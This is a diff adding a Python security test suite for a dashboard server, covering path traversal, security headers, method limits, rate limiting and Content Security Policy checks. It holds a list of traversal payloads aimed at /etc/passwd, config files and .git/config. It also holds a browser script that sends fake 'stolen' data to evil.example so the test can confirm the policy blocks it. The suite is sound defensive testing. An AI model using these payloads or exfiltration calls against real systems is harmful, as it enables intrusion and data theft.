@@ -1,0 +1,223 @@
+"""A running server, asked for what it must not give: other files, other methods, other origins, other frames."""
+
+from __future__ import annotations
+
+import http.client
+import json
+import os
+import re
+from collections.abc import Callable
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from atlas_page import open_atlas
+from pages import name_of, registered, visit
+from playwright.sync_api import Page
+from servers import ROOT, Server, serving
+
+SECRET = re.compile(rb"root:.*:0:0:|streamlit==|\[server\]|from __future__|enableXsrfProtection")
+"""What stands in /etc/passwd, requirements.txt, config.toml and our own modules."""
+ROUTES = (
+    "/assets/{digest}/", "/assets/x/", "/assets/", "/bundle/{stamp}/", "/bundle/x/", "/feeds/", "/api/v1/",
+    "/api/", "/present/", "/present/x/",
+    "/static/", "/app/static/", "/media/", "/component/", "/_stcore/", "/_stcore/bidi-components/",
+    "/_stcore/upload_file/", "/vendor/", "/",
+)  # fmt: skip
+CLIMBS = (
+    "../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "..%252f..%252f..%252fetc%252fpasswd", "....//....//....//etc/passwd", "..\\..\\..\\etc\\passwd",
+    "..%5c..%5c..%5cetc%5cpasswd",
+    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/etc/passwd", "%2fetc%2fpasswd", "//etc/passwd",
+    "file:///etc/passwd", "../requirements.txt",
+    "../../requirements.txt", "../../../requirements.txt", "../.streamlit/config.toml",
+    "../../.streamlit/config.toml", "../../dashboard/app.py",
+    "app.py", "../app.py", "..", ".", ".git/config", "../.git/config", "..%00/etc/passwd",
+    "europe.geojson%00.css", "parts.mjs/../../../app.py",
+)  # fmt: skip
+
+
+def ask(
+    server: Server, path: str, method: str = "GET", headers: dict[str, str] | None = None, body: bytes | None = None
+) -> tuple[int, dict[str, str], bytes]:
+    """The answer to a path sent as it is: nothing is tidied on the way, nothing followed."""
+    at = urlsplit(server.url)
+    connection = http.client.HTTPConnection(str(at.hostname), at.port, timeout=20)
+    try:
+        connection.putrequest(method, path, skip_accept_encoding=True)
+        for key, value in (headers or {}).items():
+            connection.putheader(key, value)
+        if body is not None:
+            connection.putheader("Content-Length", str(len(body)))
+        connection.endheaders(body)
+        answer = connection.getresponse()
+        return answer.status, {key.lower(): value for key, value in answer.getheaders()}, answer.read()
+    finally:
+        connection.close()
+
+
+@pytest.fixture(scope="module")
+def known(server: Server) -> dict[str, str]:
+    """What addresses are made of."""
+    health = json.loads(ask(server, "/health")[2])
+    digest = str(health["assets"])
+    page = ask(server, f"/assets/{digest}/store.mjs")
+    assert page[0] == 200
+    return {"digest": digest, "stamp": "0" * 16}
+
+
+@pytest.mark.parametrize("route", ROUTES)
+def test_nothing_outside_is_reached(server: Server, known: dict[str, str], route: str) -> None:
+    for climb in CLIMBS:
+        path = route.format(**known) + climb
+        status, headers, body = ask(server, path)
+        assert not SECRET.search(body), path
+        assert status < 500, (path, status)
+        assert "x-content-type-options" in headers, path
+        if status == 200:  # Streamlit answers any unknown page with the page that draws it
+            assert b"<title>Streamlit</title>" in body or b"<!doctype html" in body[:200].lower(), (path, body[:80])
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/",
+        "/events",
+        "/health",
+        "/assets/{digest}/store.mjs",
+        "/assets/{digest}/none",
+        "/bundle/{stamp}/apmbc.json",
+        "/bundle/x/none.json",
+        "/api/v1/status?instrument=apmbc",
+        "/api/v1/none",
+        "/feeds/changes.atom",
+        "/_stcore/health",
+        "/nowhere/at/all",
+        "/favicon.png",
+    ],
+)
+def test_every_answer_carries_the_headers(server: Server, known: dict[str, str], path: str) -> None:
+    _, headers, _ = ask(server, path.format(**known))
+    policy = headers["content-security-policy"]
+    assert "http" not in policy
+    assert "ws:" not in policy
+    assert "*" not in policy
+    assert "frame-ancestors 'self'" in policy
+    assert headers["x-content-type-options"] == "nosniff"
+    assert headers["referrer-policy"] == "no-referrer"
+    assert headers["x-frame-options"] == "SAMEORIGIN"
+    assert "set-cookie" not in headers or "samesite" in headers["set-cookie"].lower()
+
+
+@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO"])
+def test_the_open_routes_only_read(server: Server, known: dict[str, str], method: str) -> None:
+    for path in (
+        "/health",
+        "/assets/{digest}/store.mjs",
+        "/bundle/x/apmbc.json",
+        "/api/v1/status?instrument=apmbc",
+        "/feeds/changes.atom",
+    ):
+        status, headers, body = ask(server, path.format(**known), method, body=b"x=1")
+        assert status in (400, 404, 405, 501), (method, path, status)
+        assert "access-control-allow-origin" not in headers
+        assert b"Traceback" not in body
+
+
+def test_uploads_need_a_token_and_stay_small(server: Server) -> None:
+    for body in (b"", b"a" * 1000):
+        status, _, said = ask(server, "/_stcore/upload_file/none/none", "PUT", {"Content-Type": "text/csv"}, body)
+        assert status in (400, 403), (status, said[:200])
+    settings = (ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8")
+    assert "maxUploadSize = 10" in settings
+
+
+def test_the_agents_door_is_shut(server: Server) -> None:
+    for path in ("/_stcore/agent/interact", "/_stcore/agent/mcp"):
+        status, _, body = ask(server, path, "POST", {"Content-Type": "application/json"}, b"{}")
+        assert status in (400, 403, 404), (path, status)
+        assert b"enableAgentApi" in body, "it says that it is off"
+
+
+def test_a_socket_of_another_origin_is_refused(server: Server) -> None:
+    upgrade = {
+        "Upgrade": "websocket",
+        "Connection": "Upgrade",
+        "Sec-WebSocket-Version": "13",
+        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
+    }
+    status, _, _ = ask(server, "/_stcore/stream", headers=upgrade | {"Origin": "https://evil.example"})
+    assert status == 403
+
+
+def test_too_many_requests_are_refused_and_pages_still_served() -> None:
+    with serving(environment={"ESS_API_PER_MINUTE": "6", "ESS_API_BURST": "3"}) as strict:
+        statuses = [ask(strict, "/api/v1/status?instrument=apmbc")[0] for _ in range(5)]
+        assert statuses == [200, 200, 200, 429, 429]
+        status, headers, body = ask(strict, "/feeds/changes.atom", headers={"X-Forwarded-For": "203.0.113.7"})
+        assert status == 429, "a header of the client's own buys nothing"
+        assert int(headers["retry-after"]) >= 1
+        assert json.loads(body)["error"]
+        assert headers["x-content-type-options"] == "nosniff"
+        assert ask(strict, "/health")[0] == 200
+        assert ask(strict, "/")[0] == 200
+        assert ask(strict, "/api/v1/status?q=" + "a" * 9000)[0] == 414
+
+
+@pytest.mark.parametrize("setting", ["https://example.org; script-src *", "*", "nonsense"])
+def test_a_setting_that_would_open_the_policy_stops_the_start(setting: str) -> None:
+    with (
+        pytest.raises(RuntimeError, match="ESS_FRAME_ANCESTORS"),
+        serving(environment={"ESS_FRAME_ANCESTORS": setting}),
+    ):
+        pass
+
+
+def test_a_named_host_may_embed(server: Server) -> None:
+    with serving(environment={"ESS_FRAME_ANCESTORS": "https://news.example"}) as open_one:
+        _, headers, _ = ask(open_one, "/")
+    assert "frame-ancestors 'self' https://news.example;" in headers["content-security-policy"]
+    assert "x-frame-options" not in headers
+
+
+@pytest.mark.parametrize("name", registered(), ids=name_of)
+def test_the_policy_hinders_no_page(page: Page, guard: Any, name: str) -> None:
+    """Everything a page does is allowed by the policy, and nothing it does needs another host."""
+    guard.expected.append("status of 404")
+    broken: list[str] = []
+    page.on(
+        "console", lambda message: broken.append(message.text) if "Content Security Policy" in message.text else None
+    )
+    visit(page, name, "focus=LTU")
+    assert not broken
+
+
+def test_the_policy_stops_what_a_script_would_send_out(page: Page, guard: Any) -> None:
+    """A request, a socket and a picture to another host: each is stopped by the policy before it leaves."""
+    guard.expected += ["Content Security Policy", "Failed to fetch", "Fetch API cannot load"]
+    open_atlas(page)
+    stopped = page.evaluate(
+        """async () => {
+            const told = [];
+            document.addEventListener("securitypolicyviolation", (one) => told.push(one.effectiveDirective));
+            try { await fetch("https://evil.example/?stolen=1"); } catch {}
+            try { new WebSocket("wss://evil.example/"); } catch {}
+            await new Promise((done) => { const picture = new Image(); picture.onerror = done;
+                picture.src = "https://evil.example/a.png"; });
+            await new Promise((done) => setTimeout(done, 100));
+            return told;
+        }"""
+    )
+    assert sorted(stopped) == ["connect-src", "connect-src", "img-src"]
+    guard.outside[:] = [one for one in guard.outside if not one.startswith("https://evil.example/")]
+
+
+def test_nothing_is_told_to_anyone(new_page: Callable[..., Page], guard: Any) -> None:
+    """No telemetry, no cookie beyond the token against forged requests; the guard fails on any other host."""
+    page = new_page()
+    open_atlas(page)
+    assert {one["name"] for one in page.context.cookies()} <= {"_streamlit_xsrf"}
+    stored = page.evaluate("JSON.stringify([Object.keys(localStorage), Object.keys(sessionStorage)])")
+    assert not re.search(r"token|secret|user", stored, re.IGNORECASE)
+    assert not guard.outside
+    assert os.environ.get("STREAMLIT_BROWSER_GATHER_USAGE_STATS", "false").lower() != "true"
